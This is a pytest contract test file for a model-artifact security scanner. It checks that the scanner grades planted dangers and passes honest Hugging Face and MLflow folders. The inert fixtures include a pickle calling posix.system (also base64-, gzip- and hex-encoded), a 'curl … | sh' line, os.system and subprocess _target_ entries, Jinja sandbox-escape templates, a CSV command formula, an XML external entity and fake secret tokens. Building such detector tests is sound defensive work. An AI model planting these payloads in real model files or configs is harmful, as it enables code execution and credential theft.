"""The security scan over texts, configurations, code and names: what runs or leaks is found, honest folders pass.

All samples are inert and scanned in one run by the validators' interpreter; each is a folder of the artifact.
"""

from __future__ import annotations

import base64
import gzip
import json
import marshal
from pathlib import Path
from random import Random

import pytest

from model_approval.domain.evidence import Evidence, FileCoverage, Finding, Severity
from tests.support.models import a_pickle_that_calls, a_torch_file, a_zip
from tests.support.validation import evidence_about

pytestmark = pytest.mark.contract

_BAD = a_pickle_that_calls("posix", "system", protocol=4)
_LETTERS = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
CRITICAL, HIGH, MEDIUM, LOW, INFO = (
    Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO
)  # fmt: skip
Sample = tuple[dict[str, bytes], str, Severity]


def _random(count: int, letters: str = _LETTERS) -> str:
    """Letters as in a token; always the same."""
    return "".join(Random(count).choices(letters, k=count))


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _mlmodel(**more: str) -> bytes:
    lines = {"loader_module": "mlflow.sklearn", **more}
    return (
        "flavors:\n  python_function:\n" + "".join(f"    {key}: {value}\n" for key, value in lines.items())
    ).encode()


def _notebook(*cells: str) -> bytes:
    return _json({"cells": [{"cell_type": "code", "source": [cell]} for cell in cells]})


_KEY = f"-----BEGIN RSA PRIVATE KEY-----\n{_random(64)}\n{_random(63)}\n"
SECRETS: dict[str, tuple[str, Severity]] = {
    "aws": (f"id = AKIA{_random(16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}", HIGH),
    "aws-secret": (f'aws_secret_access_key = "{_random(40)}"', HIGH),
    "github": (f"url: https://ghp_{_random(36)}@github.example", HIGH),
    "hugging-face": (f"token: hf_{_random(34)}", HIGH),
    "openai": (f"OPENAI_API_KEY=sk-proj-{_random(48)}", HIGH),
    "anthropic": (f"key: sk-ant-api03-{_random(93)}", HIGH),
    "slack": (f"xoxb-123456789012-123456789012-{_random(24)}", HIGH),
    "azure": (f"DefaultEndpointsProtocol=https;AccountName=x;AccountKey={_random(86)}==", HIGH),
    "google": (f"AIza{_random(35)}", HIGH),
    "private-key": (_KEY, HIGH),
    "service-account": (json.dumps({"type": "service_account", "private_key": _KEY}), HIGH),
    "url": ("postgresql://mlflow:Tr0ub4dor3@db.internal/mlflow", HIGH),
    "web-token": (f"eyJ{_random(20)}.eyJ{_random(40)}.{_random(43)}", MEDIUM),
    "password": (f"db_password: {_random(20)}", MEDIUM),
    "telegram": ("bearer 110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawA", HIGH),
}

CONFIGURATIONS: dict[str, Sample] = {
    "auto-map": ({"config.json": _json({"auto_map": {"AutoModel": "m.M"}})}, "config.code", HIGH),
    "hidden-key": ({"config.json": b'{"auto\\u005fmap": {"AutoModel": "m.M"}}'}, "config.code", HIGH),
    "utf-16": ({"config.json": '{"trust_remote_code": true}'.encode("utf-16")}, "config.code", HIGH),
    "jsonl": ({"a.jsonl": b'{"a": 1}\n{"trust_remote_code": true}\n'}, "config.code", HIGH),
    "large": (
        {"tokenizer.json": b'{"vocab": {' + b'"a": 1, ' * 1_200_000 + b'"b": 2}, "auto_map": {"A": "m.M"}}'},
        "config.code", HIGH,
    ),
    "large-hidden": (
        {"tokenizer.json": b'{"vocab": {' + b'"a": 1, ' * 1_200_000 + b'"b": 2}, "auto_m\\u0061p": {"A": "m.M"}}'},
        "config.code", HIGH,
    ),
    "toml": ({"settings.toml": b"[model]\ntrust_remote_code = true\n"}, "config.code", HIGH),
    "ini": ({"settings.cfg": b"[model]\n_target_ = os.system\n"}, "config.target", CRITICAL),
    "target": ({"config.json": _json({"a": [{"_target_": "subprocess.Popen"}]})}, "config.target", CRITICAL),
    "target-yaml": ({"c.yaml": b"a:\n- _target_: builtins.eval\n"}, "config.target", CRITICAL),
    "target-runs": ({"c.yaml": b"a: {_target_: torch.utils.collect_env.run}\n"}, "config.target", CRITICAL),
    "target-door": ({"c.yaml": b"a: {_target_: torch.hub.load}\n"}, "config.target", CRITICAL),
    "jsonpickle": ({"a.json": _json({"py/reduce": [{"py/function": "os.system"}]})}, "config.code", HIGH),
    "expression": ({"a.json": _json({"scale": "__import__('os').system('true')"})}, "config.expression", HIGH),
    "lambda": ({"a.yaml": b"transform: 'lambda x: x + 1'\n"}, "config.expression", HIGH),
    "tool-server": (
        {"mcp.json": _json({"mcpServers": {"a": {"command": "sh", "args": ["-c"]}}})}, "config.command", HIGH
    ),
    "install-script": ({"package.json": _json({"scripts": {"postinstall": "true"}})}, "config.command", HIGH),
    "shard-outside": (
        {"m.safetensors.index.json": _json({"weight_map": {"a": "../../other/model.bin"}})}, "config.path", HIGH
    ),
    "system-file": ({"a.json": _json({"vocab": "../../../../etc/passwd"})}, "config.path", HIGH),
    "template": (
        {"tokenizer_config.json": _json({"chat_template": "{{ ''.__class__.__mro__ }}"})}, "template.escape", CRITICAL
    ),
    "named-templates": (
        {"c.json": _json({"chat_template": [{"name": "tool_use", "template": "{{ x.__init__ }}"}]})},
        "template.escape", CRITICAL,
    ),
    "yaml-template": ({"c.yaml": b"chat_template: '{{ x.__globals__ }}'\n"}, "template.escape", CRITICAL),
    "pipeline": (
        {"model_index.json": _json({"_class_name": ["pipeline", "P"]}), "pipeline.py": b"x = 1\n"}, "config.class", HIGH
    ),
    "modules": ({"modules.json": _json([{"type": "acme.Module"}])}, "config.class", HIGH),
    "adapter": ({"adapter_config.json": _json({"base_model_name_or_path": "a/b"})}, "config.base-model", INFO),
    "folded-key": ({"a.yaml": b'? "auto\\\n  _map"\n: {A: m.M}\n'}, "config.code", HIGH),
    "lenient-json": ({"a.json": b'{"auto_map": {"A": "m.M"}, // x\n}'}, "config.code", HIGH),
    "inline-table": ({"a.toml": b"model = {trust_remote_code = true}\n"}, "config.code", HIGH),
    "server-option": ({"a.yaml": b"args: [--model, x, --trust-remote-code]\n"}, "config.code", HIGH),
    "server-installs": ({"config.properties": b"install_py_dep_per_model=true\n"}, "config.code", HIGH),
    "project": ({"MLproject": b"entry_points: {main: {command: 'true'}}\n"}, "config.command", HIGH),
    "ruby": ({"a.yaml": b"a: !ruby/object:Gem::Installer\n"}, "config.objects", CRITICAL),
    "entity": ({"a.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "x">]><a/>'}, "xml.entity", HIGH),
    "decoder": ({"a.xml": b'<?xml version="1.0"?><java class="java.beans.XMLDecoder"/>'}, "xml.objects", CRITICAL),
}  # fmt: skip

DEPENDENCIES: dict[str, Sample] = {
    "direct": ({"requirements.txt": b"a @ https://files.example/a.whl\n"}, "dependency.direct-url", HIGH),
    "repository": ({"requirements.txt": b"git+https://git.example/a/b\n"}, "dependency.direct-url", HIGH),
    "editable": ({"requirements.txt": b"-e git+https://git.example/a#egg=a\n"}, "dependency.editable", HIGH),
    "trusted": ({"requirements.txt": b"--trusted-host x.example\na==1\n"}, "dependency.insecure", HIGH),
    "plain-http": ({"requirements.txt": b"-i http://x.example/simple\na==1\n"}, "dependency.insecure", HIGH),
    "build": ({"requirements.txt": b"a==1 --config-settings=x=y\n"}, "dependency.build-option", HIGH),
    "index": ({"requirements.txt": b"--extra-index-url https://x.example/\na==1\n"}, "dependency.index", MEDIUM),
    "conda": ({"conda.yaml": b"dependencies:\n- pip:\n  - git+https://git.example/a\n"}, "dependency.direct-url", HIGH),
    "channel": ({"conda.yaml": b"channels: [acme]\ndependencies: [a=1.2.3]\n"}, "dependency.channel", MEDIUM),
    "python-env": ({"python_env.yaml": b"dependencies: ['a @ http://x.example/a']\n"}, "dependency.insecure", HIGH),
    "unpinned": ({"requirements.txt": b"numpy>=2\n"}, "dependency.unpinned", INFO),
}

MLFLOW: dict[str, Sample] = {
    "loader": ({"MLmodel": _mlmodel(loader_module="acme")}, "mlflow.loader-module", HIGH),
    "code": ({"MLmodel": _mlmodel(code="code")}, "mlflow.code", HIGH),
    "from-code": ({"MLmodel": _mlmodel(model_code_path="m.py")}, "mlflow.model-from-code", HIGH),
    "traversal": ({"MLmodel": _mlmodel(data="../../x")}, "mlflow.path", HIGH),
    "absolute": ({"MLmodel": _mlmodel(model_path="/srv/x")}, "mlflow.path", HIGH),
    "remote": ({"MLmodel": _mlmodel(data="s3://x/y")}, "mlflow.remote", MEDIUM),
    "python-model": ({"MLmodel": _mlmodel(python_model="python_model.pkl")}, "mlflow.python-model", MEDIUM),
    "flavour": ({"MLmodel": b"flavors:\n  acme: {x: 1}\n"}, "mlflow.flavor", MEDIUM),
}


def _with_metadata(**metadata: str) -> bytes:
    header = _json({"__metadata__": metadata, "a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}})
    return len(header).to_bytes(8, "little") + header + b"x"


PAYLOADS: dict[str, Sample] = {
    "pickle": ({"a.json": _json({"state": base64.b64encode(_BAD).decode()})}, "text.payload", HIGH),
    "pickle-inside": ({"a.json": _json({"s": base64.b64encode(_BAD).decode()})}, "pickle.dangerous-import", CRITICAL),
    "hexadecimal": ({"a.txt": _BAD.hex().encode()}, "pickle.dangerous-import", CRITICAL),
    "yaml": ({"a.yaml": b"s: !!binary |\n  " + base64.b64encode(_BAD) + b"\n"}, "pickle.dangerous-import", CRITICAL),
    "gzip": ({"a.md": base64.b64encode(gzip.compress(_BAD))}, "pickle.dangerous-import", CRITICAL),
    "lines": ({"a.txt": base64.encodebytes(_BAD + bytes(200))}, "text.payload", HIGH),
    "metadata": ({"a.safetensors": _with_metadata(note=base64.b64encode(_BAD).decode())}, "text.payload", HIGH),
    "metadata-secret": ({"a.safetensors": _with_metadata(token=f"hf_{_random(34)}")}, "secret.token", HIGH),
    "program": ({"a.csv": base64.b64encode(b"\x7fELF\x02\x01\x01" + bytes(60))}, "text.payload", HIGH),
    "code": ({"a.json": _json({"f": base64.b64encode(marshal.dumps((lambda x: x).__code__)).decode()})},
             "text.payload", HIGH),
}  # fmt: skip

CODE: dict[str, Sample] = {
    "python": ({"a.py": b"import os as o\no.system('true')\n"}, "code.dangerous", CRITICAL),
    "from-import": ({"a.py": b"from subprocess import run as r\nr(['true'])\n"}, "code.dangerous", CRITICAL),
    "harmless": ({"a.py": b"x = 1\n"}, "folder.code", HIGH),
    "shell": ({"a.sh": b"curl https://x.example/a | sh\n"}, "code.dangerous", CRITICAL),
    "notebook": ({"a.ipynb": _notebook("!pip install x")}, "code.shell", HIGH),
    "notebook-call": ({"a.ipynb": _notebook("import os\nos.system('true')")}, "code.dangerous", HIGH),
    "bytecode": ({"a.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40)}, "folder.code", CRITICAL),
    "marshalled": ({"f.bin": marshal.dumps((lambda x: x).__code__)}, "folder.code", CRITICAL),
    "container": ({"Dockerfile": b"FROM x\nRUN true\n"}, "folder.code", HIGH),
    "desktop": ({"a.desktop": b"[Desktop Entry]\nExec=true\n"}, "folder.code", HIGH),
    "macros": ({"a.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)}, "folder.code", HIGH),
    "macros-in-zip": (
        {"a.docm": a_zip({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)})},
        "folder.code", HIGH,
    ),
    "path-file": ({"a.pth": b"import os; os.system('true')\n"}, "folder.path-code", CRITICAL),
    "secret-in-code": ({"a.py": f"key = 'hf_{_random(34)}'\n".encode()}, "secret.token", HIGH),
    "formula": ({"a.csv": b"a,b\n1,=cmd|'/c calc'!A1\n"}, "text.formula", LOW),
    "markup": ({"README.md": b"# A\n<script src='https://x.example'></script>\n"}, "text.markup", LOW),
}  # fmt: skip

NAMES: dict[str, Sample] = {
    "site": ({"sitecustomize.py": b"x = 1\n"}, "folder.run-by-tools", HIGH),
    "git-hook": ({".git/hooks/pre-commit": b"#!/bin/sh\n"}, "folder.run-by-tools", HIGH),
    "editor": ({".vscode/tasks.json": b"{}"}, "folder.run-by-tools", HIGH),
    "netrc": ({".netrc": b"machine x\n"}, "folder.read-by-tools", MEDIUM),
    "hidden": ({".notes.txt": b"x\n"}, "folder.hidden", LOW),
    "shadow": ({"torch.py": b"x = 1\n"}, "folder.shadow", CRITICAL),
    "shadow-package": ({"numpy/__init__.py": b"x = 1\n"}, "folder.shadow", CRITICAL),
    "reversed": ({"model\u202egpj.exe.txt": b"x\n"}, "folder.invisible-name", HIGH),
    "zero-width": ({"con\u200bfig.json": b"{}"}, "folder.invisible-name", HIGH),
    "double": ({"model.safetensors.pkl": _BAD}, "folder.double-suffix", HIGH),
    "double-data": ({"rows.csv.pkl": _BAD}, "folder.double-suffix", MEDIUM),
    "not-torch": ({"model.pt": b"#!/bin/sh\n"}, "folder.disguised", HIGH),
    "not-keras": ({"model.keras": _BAD}, "folder.disguised", HIGH),
    "not-picture": ({"a.jpg": b"\x7fELF\x02\x01\x01" + bytes(60)}, "folder.disguised", HIGH),
}

SAMPLES: dict[str, Sample] = {
    **{f"secret/{name}": ({"a.txt": text.encode()}, "secret.", grade) for name, (text, grade) in SECRETS.items()},
    **{f"config/{name}": sample for name, sample in CONFIGURATIONS.items()},
    **{f"dependencies/{name}": sample for name, sample in DEPENDENCIES.items()},
    **{f"mlflow/{name}": sample for name, sample in MLFLOW.items()},
    **{f"payload/{name}": sample for name, sample in PAYLOADS.items()},
    **{f"code/{name}": sample for name, sample in CODE.items()},
    **{f"names/{name}": sample for name, sample in NAMES.items()},
}

HUGGING_FACE: dict[str, bytes] = {
    "README.md": b"---\nlicense: mit\n---\n# A\n<p align='center'><img src='https://x.example/y.png'></p>\n"
    b"    AutoModel.from_pretrained('x', trust_remote_code=True)\n"
    b"    token = 'hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'\n",
    ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "LICENSE": b"MIT License\n",
    "config.json": _json({"_name_or_path": "../../models/x", "architectures": ["A"], "trust_remote_code": False}),
    "generation_config.json": _json({"eos_token_id": [1, 2]}),
    "tokenizer.json": _json({"model": {"vocab": {"eval(": 1, "\u0120import": 2, "__": 3}, "merges": ["e v", "a l"]}}),
    "tokenizer_config.json": _json(
        {
            "chat_template": "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}",
            "bos_token": "<s>",
        }
    ),
    "special_tokens_map.json": _json({"unk_token": "[UNK]"}),
    "preprocessor_config.json": _json({"image_mean": [0.5, 0.5, 0.5]}),
    "vocab.txt": b"[PAD]\nsecret\npassword\n##able\n",
    "merges.txt": b"#version: 0.2\ne v\n",
    "model.safetensors": _with_metadata(format="pt", total_parameters="1", modelspec="sai", ss_network_dim="4"),
    "model.safetensors.index.json": _json({"weight_map": {"a": "model.safetensors"}}),
    "pytorch_model.bin": a_torch_file(b"\x80\x02}q\x00."),
    "trainer_state.json": b'{"best_model_checkpoint": "/root/out/checkpoint-5", "loss": NaN}',
    "chat_template.jinja": b"{{ bos_token }}{% for m in messages %}{{ m.content }}{% endfor %}",
    "labels.names": b"cat\ndog\n",
    "model_index.json": _json({"_class_name": "P", "unet": ["diffusers", "UNet"], "safety_checker": [None, None]}),
    "modules.json": _json([{"idx": 0, "type": "sentence_transformers.models.Transformer"}]),
    "network.xml": b'<?xml version="1.0"?><net name="a" version="11"><layers/></net>',
    "utf-16.txt": "Straße\n".encode("utf-16"),
}
MLFLOW_FOLDER: dict[str, bytes] = {
    "MLmodel": b"flavors:\n  python_function:\n    env: {conda: conda.yaml, virtualenv: python_env.yaml}\n"
    b"    loader_module: mlflow.xgboost\n    data: model.ubj\n    model_config: {model_path: /srv/x}\n"
    b"    artifacts: {a: {uri: /srv/a, path: artifacts/a}}\n  xgboost:\n    code: null\n    data: model.ubj\n"
    b'signature:\n  inputs: \'[{"type": "double"}]\'\n',
    "conda.yaml": b"channels:\n- conda-forge\ndependencies:\n- python=3.11.7\n- pip<=23\n- pip:\n  - mlflow==3.17.2\n",
    "python_env.yaml": b"python: 3.11.7\nbuild_dependencies:\n- pip==23.2.1\ndependencies:\n- -r requirements.txt\n",
    "requirements.txt": b"mlflow==3.17.2\nscikit-learn==1.9.1\n",
    "input_example.json": _json({"columns": ["a"], "data": [[1.5]]}),
    "serving_input_example.json": _json({"dataframe_split": {"columns": ["a"], "data": [[1.5]]}}),
    "registered_model_meta": b"model_name: a\nmodel_version: '1'\n",
}
HONEST = {f"hf/{name}": data for name, data in HUGGING_FACE.items()}
HONEST |= {f"mlflow/{name}": data for name, data in MLFLOW_FOLDER.items()}

UNCOVERED: dict[str, tuple[dict[str, bytes], str]] = {
    "latin-1": ({"a.txt": "Straße ".encode("latin-1") * 10}, "format is not known"),
    "late-utf-16": ({"a.txt": "a".encode("utf-16") + b"\xd8" * 9000}, "not"),
    "twice": ({"a.json": b'{"a": 1, "a": 2}'}, "stands twice"),
    "no-json": ({"a.json": b'{"a": 1,}'}, "no JSON"),
    "no-yaml": ({"a.yaml": b"a: [1, 2\nb: }\n"}, "no YAML"),
    "deep-yaml": ({"a.yaml": b"- " * 3000}, "nested"),
    "unknown-target": ({"a.yaml": b"a: {_target_: acme.Model}\n"}, "not known"),
    "unknown-name-of-a-library": ({"a.yaml": b"a: {_target_: torch.utils.news.Thing}\n"}, "not known"),
    "unknown-flavour": ({"MLmodel": b"flavors: {acme: {x: 1}}\n"}, "not known"),
    "alias": ({"conda.yaml": b"x: &a git+https://g.example\ndependencies: [*a]\n"}, "not known"),
    "no-python": ({"a.py": b"def (:\n"}, "cannot be parsed"),
    "included": ({"requirements.txt": b"-r elsewhere.txt\n"}, "not known"),
}


@pytest.fixture(scope="module")
def evidence(tmp_path_factory: pytest.TempPathFactory) -> Evidence:
    """What the scan says about all samples together."""
    files = {f"bad/{name}/{path}": data for name, (made, _, _) in SAMPLES.items() for path, data in made.items()}
    files |= {f"gap/{name}/{path}": data for name, (made, _) in UNCOVERED.items() for path, data in made.items()}
    files |= {f"good/{path}": data for path, data in HONEST.items()}
    return evidence_about(files, tmp_path_factory.mktemp("texts"))


def _findings(evidence: Evidence, folder: str) -> list[Finding]:
    return [finding for finding in evidence.findings if finding.file.startswith(folder)]


def _coverage(evidence: Evidence, folder: str) -> list[FileCoverage]:
    return [item for item in evidence.coverage if item.path.startswith(folder)]


@pytest.mark.parametrize("name", SAMPLES)
def test_what_runs_fetches_or_leaks_is_found_and_graded(evidence: Evidence, name: str) -> None:
    _, rule, severity = SAMPLES[name]
    found = {(finding.rule, finding.severity) for finding in _findings(evidence, f"bad/{name}/")}
    assert any(
        known == rule or (rule.endswith(".") and known.startswith(rule)) for known, grade in found if grade is severity
    )


@pytest.mark.parametrize("path", HONEST)
def test_a_file_of_an_honest_folder_has_nothing_grave_and_is_read(evidence: Evidence, path: str) -> None:
    grave = [item for item in _findings(evidence, f"good/{path}") if item.severity.rank > Severity.LOW.rank]
    (coverage,) = [item for item in evidence.coverage if item.path == f"good/{path}"]
    # The lookup of vulnerabilities adds its own gaps to lists of dependencies; what they say is tested there.
    assert (grave, coverage.covered or "vulnerabilities" in coverage.note) == ([], True), coverage.note


@pytest.mark.parametrize("name", UNCOVERED)
def test_what_cannot_be_judged_leaves_its_file_uncovered(evidence: Evidence, name: str) -> None:
    notes = [item.note for item in _coverage(evidence, f"gap/{name}/") if not item.covered]
    assert any(UNCOVERED[name][1] in note for note in notes), notes


@pytest.mark.parametrize("name", SECRETS)
def test_a_secret_is_never_shown(evidence: Evidence, name: str) -> None:
    longest = max(SECRETS[name][0].replace(":", " ").replace("=", " ").replace('"', " ").split(), key=len)
    assert _findings(evidence, f"bad/secret/{name}/")
    assert longest not in evidence.model_dump_json()


def test_a_finding_names_the_line(evidence: Evidence) -> None:
    (finding,) = [item for item in _findings(evidence, "bad/code/python/") if item.rule == "code.dangerous"]
    assert (finding.line, finding.subject.partition(" (sha256:")[0]) == (2, "os.system")


def test_a_long_text_is_read_in_blocks_with_its_lines_counted(tmp_path: Path) -> None:
    text = "a line of a log without anything in it\n" * 60_000 + f"hf_{_random(34)}\n"
    (finding,) = evidence_about({"a.log": text.encode()}, tmp_path).findings
    assert (finding.rule, finding.line) == ("secret.token", 60_001)


def test_a_secret_across_the_end_of_a_block_is_found(tmp_path: Path) -> None:
    text = "a" * (1024 * 1024 - 10) + f" hf_{_random(34)} "
    assert [finding.rule for finding in evidence_about({"a.log": text.encode()}, tmp_path).findings] == ["secret.token"]


def test_an_acceptance_of_a_script_does_not_hold_for_another_script(tmp_path: Path) -> None:
    found = [
        {item.fingerprint for item in evidence_about({"run.py": code}, tmp_path / name).findings}
        for name, code in (("a", b"print(1)\n"), ("b", b"print(2)\n"), ("c", b"print(1)\n"))
    ]
    assert found[0] == found[2]
    assert found[0]
    assert found[0].isdisjoint(found[1])
